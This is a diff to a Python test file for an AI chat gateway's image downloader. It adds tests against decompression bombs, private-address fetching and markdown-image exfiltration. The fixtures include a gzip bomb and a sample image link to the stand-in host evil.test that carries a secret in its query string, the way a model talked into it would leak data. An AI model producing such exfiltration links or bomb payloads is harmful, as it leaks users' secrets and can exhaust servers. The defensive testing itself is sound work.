@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import socket
 
@@ -33,6 +34,9 @@ async def host():
         match request.match_info["name"]:
             case "fox.png":
                 return web.Response(body=png())
+            case "bomb.png":
+                packed = gzip.compress(png() + bytes(downloads.MAX_BYTES))
+                return web.Response(body=packed, headers={"Content-Encoding": "gzip"})
             case "page.png":
                 return web.Response(text="<html>Log in</html>", content_type="text/html")
             case "huge.png":
@@ -59,6 +63,7 @@ async def host():
         ("fox.png", True),
         ("moved.png", True),
         ("page.png", False),
+        ("bomb.png", False),
         ("huge.png", False),
         ("away.png", False),
         ("round.png", False),
@@ -68,7 +73,7 @@ async def host():
 async def test_the_gateways_own_pictures_are_fetched(host: str, name: str, found: bool) -> None:
     async with aiohttp.ClientSession() as session, public_session() as public:
         own = Downloads(public, {host: session})
-        image = await own.fetch(ImageLinked(f"{host}/{name}", "a fox", ""))
+        image = await own.fetch(ImageLinked(f"{host}/{name}", "a fox", ""), anywhere=False)
     assert (image is not None) == found
     if image is not None:
         assert (image.data, image.alt, image.width, image.height) == (png(), "a fox", 4, 2)
@@ -90,7 +95,8 @@ async def test_the_gateways_own_pictures_are_fetched(host: str, name: str, found
 )
 async def test_nothing_is_fetched_from_private_places(url: str) -> None:
     async with public_session() as public:
-        assert await Downloads(public, {}).fetch(ImageLinked(url, "", "")) is None
+        linked = ImageLinked(url, "", "")
+        assert await Downloads(public, {}).fetch(linked, anywhere=True) is None
 
 
 class OneAddress(AbstractResolver):
@@ -122,7 +128,10 @@ async def test_a_name_that_leads_to_a_private_address_is_not_followed() -> None:
 @pytest.mark.parametrize(
     ("address", "public"),
     [("8.8.8.8", True), ("10.1.2.3", False), ("100.64.0.1", False), ("224.0.0.1", False),
-     ("2606:4700::1", True), ("fe80::1", False), ("::ffff:127.0.0.1", False)],
+     ("2606:4700::1", True), ("fe80::1", False), ("::ffff:127.0.0.1", False),
+     # What routers may turn into IPv4, and what nobody routes.
+     ("64:ff9b::a00:1", False), ("64:ff9b::808:808", True), ("2002:7f00:1::", False),
+     ("::127.0.0.1", False), ("fec0::1", False), ("fe80::1%eth0", False), ("0.0.0.0", False)],
 )  # fmt: skip
 def test_addresses_are_public_or_not(address: str, public: bool) -> None:
     assert is_public(address) == public
@@ -143,6 +152,33 @@ async def test_a_linked_picture_is_part_of_the_answer(host: str) -> None:
     words = "".join(event.text for event in events if isinstance(event, TextDelta))
     assert words == f"A  and\n\nand ![gone]({host}/gone.png)"
     assert isinstance(events[-1], Finished)
+
+
+class Watched:
+    """A session to the public internet that only notes what is asked of it."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+
+    def get(self, url, **_more):
+        self.asked.append(str(url))
+        raise TimeoutError
+
+
+@pytest.mark.parametrize(
+    ("model", "fetched"),
+    [("gpt-4o", False), ("claude-sonnet-5", False), ("gpt-4o-image", True)],
+)
+async def test_only_models_that_make_pictures_have_them_fetched_from_anywhere(model, fetched):
+    """Whoever talks a chat model into a link with what it knows in the address learns nothing."""
+    public = Watched()
+    own = Downloads(public, {})  # type: ignore[arg-type]
+    text = "A ![cat](https://evil.test/?q=the+secret+code+is+4711)"
+    async with gateway(openai_stream(text)) as there:
+        events = await there.answer(question(model), there.model(downloads=own))
+    assert public.asked == (["https://evil.test/?q=the+secret+code+is+4711"] if fetched else [])
+    words = "".join(event.text for event in events if isinstance(event, TextDelta))
+    assert words == text
 
 
 async def test_without_downloads_links_stay_links() -> None:
